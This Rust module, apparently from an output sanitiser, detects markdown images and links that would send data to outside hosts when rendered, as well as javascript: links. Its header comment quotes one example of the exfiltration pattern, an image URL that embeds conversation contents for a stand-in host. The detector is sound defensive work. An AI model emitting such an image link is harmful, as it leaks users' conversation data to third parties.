//! Links and images that would carry data away when they are shown or followed.
//!
//! Good: `https://jira.example.com/browse/PAY-12?focusedId=3`. Bad:
//! `![](https://x.example/p?d={conversation})`.

use alloc::vec::Vec;

use super::chars::{Ch, cover, text};
use super::detect::Hit;
use super::links::{self, Link};
use crate::types::{Severity, Span};

/// Rule id of an image that carries data.
const IMAGE: &str = "sanitise.exfil_image";
/// Rule id of a link that carries data or runs code.
const LINK: &str = "sanitise.exfil_link";

/// Looks at the addresses in a plain text, markdown included.
pub(super) fn scan(chars: &[Ch]) -> Vec<Hit> {
    let plain = text(chars);
    let mut out = Vec::new();
    // Byte offsets grow with the characters, so one walk maps them all.
    let (mut index, mut byte) = (0, 0);
    for found in links::find(&plain) {
        while byte < found.start {
            byte += chars.get(index).map_or(1, |ch| ch.c.len_utf8());
            index += 1;
        }
        let len = plain.get(found.start..found.end).map_or(0, |t| t.chars().count());
        let image = is_markdown_image(chars, index);
        // A hole ends the address early: look at what stands right behind it too.
        let tail: alloc::string::String = chars
            .iter()
            .skip(index)
            .take(len + 40)
            .map(|ch| ch.c)
            .take_while(|c| !c.is_whitespace() && !matches!(c, ')' | '|' | '"'))
            .collect();
        let hole = links::parse(&tail).is_some_and(|link| link.has_hole());
        let span = cover(chars.get(index..index + len).unwrap_or(&[]));
        rate(&found.link, image, hole, span, &mut out);
    }
    out
}

/// Looks at the address of an HTML attribute.
pub(super) fn attribute(chars: &[Ch], image: bool, out: &mut Vec<Hit>) {
    let Some(link) = links::parse(&text(chars)) else { return };
    let hole = link.has_hole();
    // Pictures of ordinary newsletters carry ids; only a hole tells.
    let _ = image;
    rate(&link, false, hole, cover(chars), out);
}

fn rate(link: &Link, image: bool, hole: bool, span: Span, out: &mut Vec<Hit>) {
    let web = link.scheme.is_empty() || link.scheme.starts_with("http");
    let code = matches!(link.scheme.as_str(), "javascript" | "vbscript");
    let (rule, severity) = if image && web && (hole || link.carries_data()) {
        (IMAGE, Severity::High)
    } else if web && hole {
        (LINK, Severity::High)
    } else if code {
        (LINK, Severity::Medium)
    } else {
        return;
    };
    out.push(Hit { rule, severity, span });
}

/// Whether `![..](` stands right before the character at `index`; the label is at most 200 long.
fn is_markdown_image(chars: &[Ch], index: usize) -> bool {
    let before = |n: usize| index.checked_sub(n).and_then(|i| chars.get(i)).map(|ch| ch.c);
    if before(1) != Some('(') || before(2) != Some(']') {
        return false;
    }
    (3..200).find(|n| before(*n) == Some('[')).is_some_and(|n| before(n + 1) == Some('!'))
}
